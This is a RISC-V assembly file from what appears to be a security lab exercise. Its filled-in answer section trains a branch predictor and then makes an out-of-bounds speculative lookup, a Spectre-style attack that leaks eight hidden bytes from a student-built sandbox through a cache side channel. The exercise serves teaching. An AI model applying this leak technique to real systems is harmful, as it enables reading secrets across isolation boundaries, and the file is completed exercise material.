# thief.s - tries to steal from the sandbox that students have made tight, and uses it honestly.

        .bss
        .balign 8
        .globl  stolen, answered, served
stolen: .skip   8                       # the eight bytes
answered: .skip 8                       # how many of them the clock has told

served: .skip   8                       # how many honest calls were answered, and used their line

        .text
        .globl  main
main:
        addi    sp, sp, -16
        sd      ra, 8(sp)
        la      a0, hidden
        la      a1, stolen
        li      a2, 8
        la      a3, transmit
        call    read_bytes              # cache.s
        la      t0, answered
        sd      a0, 0(t0)
        call    honest
        ld      ra, 8(sp)
        addi    sp, sp, 16
        li      a0, 0
        ret

# transmit(a0 = address of a byte of hidden): has the line used whose number is that byte.
transmit:
        addi    sp, sp, -32
        sd      ra, 24(sp)
        sd      s0, 16(sp)
        sd      s1, 8(sp)
        # Your code goes here. The index for lookup is the distance of the address from table: it is far outside. But the branch in
        # lookup is foreseen by what it did the last times. Calls with 0 as the index are allowed, as many as you like (they use line 1,
        # so call evict when you are done with them).
        la      t0, table
        sub     s0, a0, t0
        li      s1, 4
1:      li      a0, 0
        call    lookup
        addi    s1, s1, -1
        bnez    s1, 1b
        call    evict
        mv      a0, s0
        call    lookup
        # Your code ends here.
        ld      ra, 24(sp)
        ld      s0, 16(sp)
        ld      s1, 8(sp)
        addi    sp, sp, 32
        ret

# honest(): asks for each index of the table; that is what it is for
honest: addi    sp, sp, -32
        sd      ra, 24(sp)
        sd      s0, 16(sp)
        sd      s1, 8(sp)
        li      s0, 0
        li      s1, 0
1:      call    evict
        mv      a0, s0
        call    lookup
        beqz    a0, 2f
        call    reload_all
        addi    t0, s0, 1               # what is in the table there
        bne     a0, t0, 2f
        addi    s1, s1, 1
2:      addi    s0, s0, 1
        li      t0, 8
        bne     s0, t0, 1b
        li      a0, 8                   # one beyond it gets nothing
        call    lookup
        sub     s1, s1, a0
        la      t0, served
        sd      s1, 0(t0)
        ld      ra, 24(sp)
        ld      s0, 16(sp)
        ld      s1, 8(sp)
        addi    sp, sp, 32
        ret
